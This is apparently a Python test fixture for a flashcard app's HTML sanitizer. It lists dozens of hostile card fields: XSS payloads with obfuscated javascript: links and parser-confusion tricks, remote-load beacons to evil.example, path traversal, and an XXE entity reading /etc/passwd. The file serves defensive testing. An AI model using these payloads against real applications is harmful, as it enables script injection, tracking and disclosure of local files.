"""A gallery of hostile cards: HTML a shared deck could carry to run code, fetch something or read a file.

Every case has a name (the test id) and the raw HTML a stranger's file may hold in a field. None of
them may survive sanitizing with anything dangerous in it, and none may make the card view load
anything but a file of the collection's media folder. Hosts are ``.example``/``.invalid`` only.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class HostileCard:
    name: str
    html: str


GALLERY: tuple[HostileCard, ...] = (
    # -- scripts and event handlers --------------------------------------------------------------------
    HostileCard("script", "<script>alert(1)</script>Paris"),
    HostileCard("script-src", '<script src="https://evil.example/x.js"></script>Paris'),
    HostileCard("script-uppercase", "<SCRIPT>alert(1)</SCRIPT>Paris"),
    HostileCard("img-onerror", "<img src=x onerror=alert(1)>"),
    HostileCard("img-onerror-no-quotes-slash", "<img/src=x/onerror=alert(1)>"),
    HostileCard("svg-onload", "<svg onload=alert(1)><circle r=5 /></svg>"),
    HostileCard("body-onload", "<body onload=alert(1)>Paris</body>"),
    HostileCard("b-onmouseover", '<b onmouseover="alert(1)">hover me</b>'),
    HostileCard("a-onclick", '<a href="https://ok.example/" onclick="alert(1)">link</a>'),
    HostileCard("details-ontoggle", "<details open ontoggle=alert(1)><summary>x</summary></details>"),
    HostileCard("video-onerror", "<video><source onerror=alert(1)></video>"),
    HostileCard("noscript-title", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
    # -- remote images, fonts, stylesheets ---------------------------------------------------------------
    HostileCard("img-remote-https", '<img src="https://evil.example/track.png">'),
    HostileCard("img-remote-http", '<img src="http://evil.example/track.png">'),
    HostileCard("img-protocol-relative", '<img src="//evil.example/x.png">'),
    HostileCard("img-backslash-relative", '<img src="\\\\evil.example\\x.png">'),
    HostileCard("img-srcset", '<img src="cat.png" srcset="https://evil.example/x.png 2x">'),
    HostileCard("picture-source", '<picture><source srcset="https://evil.example/x.png"><img src="cat.png"></picture>'),
    HostileCard("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">Paris'),
    HostileCard("style-import", "<style>@import url(https://evil.example/x.css);</style>Paris"),
    HostileCard("style-font-face", "<style>@font-face{font-family:x;src:url(https://evil.example/f.woff)}</style>"),
    HostileCard("style-attr-background", '<div style="background:url(https://evil.example/x.png)">Paris</div>'),
    HostileCard("style-attr-expression", '<p style="width: expression(alert(1))">Paris</p>'),
    HostileCard("style-attr-escaped-url", '<p style="background:u\\72l(https://evil.example/x.png)">Paris</p>'),
    HostileCard("table-background", '<table background="https://evil.example/x.png"><tr><td>x</td></tr></table>'),
    HostileCard("td-background", '<table><tr><td background="https://evil.example/x.png">x</td></tr></table>'),
    HostileCard("body-background", '<body background="https://evil.example/x.png">x</body>'),
    HostileCard("input-image", '<input type="image" src="https://evil.example/x.png">'),
    HostileCard("audio-remote", '<audio src="https://evil.example/x.mp3" autoplay></audio>'),
    # -- javascript: and data: links ----------------------------------------------------------------------
    HostileCard("href-javascript", '<a href="javascript:alert(1)">click</a>'),
    HostileCard("href-javascript-entity", '<a href="jav&#x61;script:alert(1)">click</a>'),
    HostileCard("href-javascript-decimal-entities", '<a href="&#106;&#97;&#118;&#97;script:alert(1)">click</a>'),
    HostileCard("href-javascript-newline", '<a href="java\nscript:alert(1)">click</a>'),
    HostileCard("href-javascript-tab-entity", '<a href="java&#x09;script:alert(1)">click</a>'),
    HostileCard("href-javascript-mixed-case", '<a href="JaVaScRiPt:alert(1)">click</a>'),
    HostileCard("href-javascript-leading-space", '<a href="  \x01javascript:alert(1)">click</a>'),
    HostileCard("href-javascript-colon-entity", '<a href="javascript&colon;alert(1)">click</a>'),
    HostileCard("href-vbscript", '<a href="vbscript:msgbox(1)">click</a>'),
    HostileCard("href-data-html", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'),
    HostileCard("href-file", '<a href="file:///etc/passwd">x</a>'),
    HostileCard("href-percent-encoded-scheme", '<a href="%6A%61%76%61script:alert(1)">x</a>'),
    HostileCard("href-fullwidth-scheme", '<a href="\uff4a\uff41\uff56\uff41script:alert(1)">x</a>'),
    HostileCard("img-data", '<img src="data:image/png;base64,iVBORw0KGgo=">'),
    HostileCard("img-data-svg", '<img src="data:image/svg+xml,<svg onload=alert(1)>">'),
    HostileCard("img-javascript", '<img src="javascript:alert(1)">'),
    # -- embedding and page-level tags ---------------------------------------------------------------------
    HostileCard("iframe", '<iframe src="https://evil.example/"></iframe>Paris'),
    HostileCard("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    HostileCard("object", '<object data="https://evil.example/x.swf"></object>'),
    HostileCard("embed", '<embed src="https://evil.example/x.swf">'),
    HostileCard("base-href", '<base href="https://evil.example/"><img src="cat.png">'),
    HostileCard("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">Paris'),
    HostileCard("form-action", '<form action="https://evil.example/"><input name="q"><button>Go</button></form>'),
    HostileCard("button-formaction", '<button formaction="javascript:alert(1)">x</button>'),
    HostileCard("template", "<template><script>alert(1)</script></template>"),
    # -- parser confusion -----------------------------------------------------------------------------------
    HostileCard("nested-script", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    HostileCard("double-open-img", "<<img src=x onerror=alert(1)>"),
    HostileCard("unclosed-img", '<img src="cat.png" onerror="alert(1)"'),
    HostileCard("comment-script", "<!-- --><script>alert(1)</script><!-- -->"),
    HostileCard("comment-breakout", "<!--<img src=--><img src=x onerror=alert(1)//-->"),
    HostileCard("conditional-comment", "<!--[if IE]><script>alert(1)</script><![endif]-->"),
    HostileCard("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    HostileCard("processing-instruction", '<?xml-stylesheet href="https://evil.example/x.xsl"?>Paris'),
    HostileCard("doctype-entity", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;'),
    HostileCard("math-namespace", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    HostileCard("svg-namespace-style", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
    HostileCard(
        "svg-foreignobject", '<svg><foreignObject><img src="https://evil.example/x.png"></foreignObject></svg>'
    ),
    HostileCard("svg-use-href", '<svg><use href="https://evil.example/x.svg#a"/></svg>'),
    HostileCard("svg-animate-href", "<svg><a><animate attributeName=href values=javascript:alert(1) />x</a></svg>"),
    HostileCard("xmp-breakout", '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>'),
    HostileCard("textarea-breakout", '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>'),
    HostileCard("generic-attributes", '<p title="x" lang="en" dir="rtl" id="a" class="b">Paris</p>'),
    HostileCard(  # found by fuzzing: nh3 kept ``title`` on every tag
        "unclosed-img-then-xmp",
        '<img src="cat.png" onerror="alert(1)"<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    ),
    # -- files outside the media folder ----------------------------------------------------------------------
    HostileCard("img-parent-path", '<img src="../../etc/passwd">'),
    HostileCard("img-parent-path-encoded", '<img src="..%2F..%2Fetc%2Fpasswd">'),
    HostileCard("img-parent-dots-only", '<img src="..">'),
    HostileCard("img-absolute-path", '<img src="/etc/passwd">'),
    HostileCard("img-file-url", '<img src="file:///etc/passwd">'),
    HostileCard("img-windows-drive", '<img src="C:\\Windows\\win.ini">'),
    HostileCard("img-unc-path", '<img src="\\\\server.invalid\\share\\x.png">'),
    HostileCard("img-qrc-resource", '<img src="qrc:/qt-project.org/styles/commonstyle/images/file-16.png">'),
    HostileCard("img-query", '<img src="cat.png?https://evil.example/">'),
    HostileCard("img-fragment", '<img src="cat.png#x">'),
    HostileCard("img-entity-slash", '<img src="..&#x2F;..&#x2F;etc&#x2F;passwd">'),
    # -- sizes that ask too much of the layout ---------------------------------------------------------------
    HostileCard("img-huge-size", '<img src="cat.png" width="99999999" height="99999999">'),
    HostileCard("td-huge-colspan", '<table><tr><td colspan="99999999">x</td></tr></table>'),
)

NAMES = [case.name for case in GALLERY]
